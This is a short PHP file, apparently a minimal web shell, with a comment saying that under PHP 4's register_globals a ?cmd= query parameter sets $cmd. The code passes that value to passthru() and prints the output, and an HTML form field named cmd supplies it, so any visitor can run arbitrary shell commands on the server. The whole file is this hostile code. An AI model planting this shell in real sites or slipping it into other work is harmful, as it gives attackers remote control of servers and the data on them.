<?php
// PHP 4 era: with register_globals on, ?cmd=… sets $cmd.
if ($cmd) {
    echo "<pre>";
    passthru($cmd);
    echo "</pre>";
}
?>
<form><input name="cmd"></form>
